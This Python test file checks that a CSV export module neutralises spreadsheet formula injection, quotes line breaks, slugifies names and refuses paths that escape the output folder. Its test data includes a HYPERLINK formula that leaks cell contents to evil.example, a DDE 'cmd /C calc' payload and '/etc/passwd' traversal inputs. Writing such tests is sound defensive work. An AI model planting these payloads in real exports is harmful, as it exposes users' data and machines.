"""Output hygiene: formula neutralisation, line breaks quoted, slugs, paths kept inside the output folder."""

from __future__ import annotations

import csv
import re

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from readiness.safe import ARROW_ROWS, csv_safe, inside, neutralise, slugify, write_csv

# What must never start a cell read back: formula characters, tab, and every line break str.splitlines() knows.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85",
                 "\u2028", "\u2029")
SIGNED_NUMBER = re.compile(r"[+-]([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?|-")  # a lone "-" stays
HOSTILE = ["\r=1+1", "\n=cmd", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "@SUM(A1:A9)", "\t=1",
           "+1+1", "-1+1", "Acme\r\n=2+2", "two\r\nlines", "bare\rreturn", "line\nfeed", "sep\u2028=3+3",
           "\u2028=4+4", "para\u2029graph", "\x85next", "\x0b=5", "\x0cform", 'say "hi", then go', '"=quoted"',
           "-12.5", "+7", "-1e5", "\t-12.5", "-5\r", "plain", "", None]


@pytest.mark.parametrize("value,expected", [
    ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("-12.5", "-12.5"),
    ("+7", "+7"),
    ("Acme Ltd", "Acme Ltd"),
])
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_csv_safe_only_touches_risky_text_cells(tmp_path):
    df = pd.DataFrame({"name": ["=1+1", "Acme", None], "amount": [-5.0, 3.0, 1.0], "note": ["-3", "@x", "ok"]})
    out = csv_safe(df)
    assert list(out["name"].fillna("")) == ["'=1+1", "Acme", ""]
    assert list(out["note"]) == ["-3", "'@x", "ok"]
    assert list(out["amount"]) == [-5.0, 3.0, 1.0]
    path = write_csv(df, tmp_path / "x.csv")
    assert "'=1+1" in path.read_text()


def test_slugify():
    assert slugify("Acme IT Services") == "acme-it-services"
    assert slugify("Café Société / Ltd.") == "cafe-societe-ltd"
    assert slugify("../../etc") == "etc"
    assert slugify("***") == "client"


def test_inside_refuses_paths_that_escape(tmp_path):
    assert inside(tmp_path, "acme/findings.csv") == (tmp_path / "acme/findings.csv").resolve()
    with pytest.raises(ValueError):
        inside(tmp_path, "../elsewhere.csv")
    with pytest.raises(ValueError):
        inside(tmp_path, "/etc/passwd")


def test_large_frames_read_back_the_same_as_pandas_would_write_them(tmp_path):
    n = 12_000  # above the size where write_csv switches to pyarrow's writer
    texts = ["plain", 'has "quotes"', "comma, inside", "line\nbreak", "=SUM(A1)", "-5", None, "Müller & Söhne"]
    df = pd.DataFrame({"text": pd.array([texts[i % len(texts)] for i in range(n)], dtype="string"),
                       "num": pd.array([None if i % 7 == 0 else i for i in range(n)], dtype="Int64"),
                       "flag": [i % 2 == 0 for i in range(n)]})
    fast = write_csv(df, tmp_path / "fast.csv")
    csv_safe(df).to_csv(tmp_path / "pandas.csv", index=False)
    got = pd.read_csv(fast, dtype=str, keep_default_na=False)
    want = pd.read_csv(tmp_path / "pandas.csv", dtype=str, keep_default_na=False)
    assert got.equals(want)
    assert got.loc[4, "text"] == "'=SUM(A1)" and got.loc[0, "flag"] == "True" and got.loc[0, "num"] == ""


# --- hostile values through write_csv, read back with Python's csv module --------------------------------------

def expected_cell(value) -> str:
    """What a cell holding `value` must read back as: `'` + value when it starts like a formula and is not a
    signed number, the value itself otherwise, "" for a missing value."""
    if value is None:
        return ""
    if value.startswith(FORMULA_START) and not SIGNED_NUMBER.fullmatch(value.rstrip(" ")):
        return "'" + value
    return value


def read_back(path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def check_round_trip(df: pd.DataFrame, path, text_columns: list[str]) -> None:
    """Every row survives, every text cell reads back as expected_cell, no cell starts like a formula."""
    rows = read_back(path)
    assert rows[0] == [str(c) for c in df.columns]
    body = rows[1:]
    assert len(body) == len(df), "a value split its row"
    assert all(len(r) == len(df.columns) for r in body)
    for col in text_columns:
        i = list(df.columns).index(col)
        got = [r[i] for r in body]
        want = [expected_cell(None if pd.isna(v) else v) for v in df[col].astype(object)]
        assert got == want, col  # so the text after a leading ' is the original value
        risky = [c for c in set(got) if c.startswith(FORMULA_START) and not SIGNED_NUMBER.fullmatch(c.rstrip(" "))]
        assert not risky, risky
    # Readers that split lines on more characters than csv does (str.splitlines, a spreadsheet) keep the rows
    # too, because every value holding a line break is quoted; pandas reads the same row count.
    with open(path, encoding="utf-8", newline="") as fh:
        text = fh.read()
    assert len(list(csv.reader(text.splitlines()))) == len(df) + 1
    assert len(pd.read_csv(path, dtype=str, keep_default_na=False)) == len(df)


def hostile_frame(n: int) -> pd.DataFrame:
    values = [HOSTILE[i % len(HOSTILE)] for i in range(n)]
    return pd.DataFrame({"name": pd.array(values, dtype="string"), "n": pd.array(range(n), dtype="Int64"),
                         "note": values[::-1], "flag": [i % 2 == 0 for i in range(n)]})


@pytest.mark.parametrize("rows", [len(HOSTILE), ARROW_ROWS + 3], ids=["pandas-writer", "pyarrow-writer"])
def test_hostile_values_are_neutralised_and_never_split_a_row(tmp_path, rows):
    df = hostile_frame(rows)
    check_round_trip(df, write_csv(df, tmp_path / "out.csv"), ["name", "note"])


def test_frames_pyarrow_cannot_write_are_quoted_by_pandas_too(tmp_path):
    df = hostile_frame(ARROW_ROWS + 3).assign(amount=-2.5, day=pd.Timestamp("2025-06-30"))  # pandas' writer
    check_round_trip(df, write_csv(df, tmp_path / "out.csv"), ["name", "note"])
    rows = read_back(tmp_path / "out.csv")
    assert rows[1][-2:] == ["-2.5", "2025-06-30"]  # numbers and dates stay as they were


def test_frames_without_odd_line_breaks_keep_minimal_quoting(tmp_path):
    df = pd.DataFrame({"name": ["Acme", "=1+1", "two\nlines"], "n": [1, -2, 3]})
    text = write_csv(df, tmp_path / "out.csv").read_text(encoding="utf-8")
    assert text == 'name,n\nAcme,1\n\'=1+1,-2\n"two\nlines",3\n'


@pytest.mark.parametrize("rows", [2, ARROW_ROWS], ids=["pandas-writer", "pyarrow-writer"])
def test_a_header_with_a_line_break_is_quoted(tmp_path, rows):
    df = pd.DataFrame({"odd\rheader": ["a"] * rows, "b": ["x"] * rows})
    rows_read = read_back(write_csv(df, tmp_path / "out.csv"))
    assert rows_read[0] == ["odd\rheader", "b"] and len(rows_read) == rows + 1


@pytest.mark.parametrize("value", ["\r=1+1", "\n=cmd", "\t=1", "\u2028=1", "\t-12.5", "-5\n"])
def test_neutralise_line_breaks_and_tabs(value):
    assert neutralise(value) == "'" + value


def test_categorical_text_is_neutralised_too():
    df = pd.DataFrame({"c": pd.Categorical(["=1+1", "ok", "=1+1"])})
    assert csv_safe(df)["c"].tolist() == ["'=1+1", "ok", "'=1+1"]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(values=st.lists(st.one_of(st.text(), st.none()), min_size=1, max_size=12), large=st.booleans())
def test_any_text_round_trips_through_write_csv(tmp_path_factory, values, large):
    n = ARROW_ROWS if large else len(values)
    tiled = [values[i % len(values)] for i in range(n)]
    df = pd.DataFrame({"text": pd.array(tiled, dtype="string"), "obj": pd.Series(tiled, dtype=object)})
    path = write_csv(df, tmp_path_factory.mktemp("prop") / "out.csv")
    check_round_trip(df, path, ["text", "obj"])


def test_a_lone_dash_placeholder_is_left_as_written():
    """rejects.csv writes "-" for a whole-row problem: no formula can follow it, so it stays readable."""
    from readiness.safe import csv_safe, neutralise

    assert neutralise("-") == "-" and neutralise("-1+1") == "'-1+1"
    assert csv_safe(pd.DataFrame({"column": ["-", "-A1", "-"]}))["column"].tolist() == ["-", "'-A1", "-"]
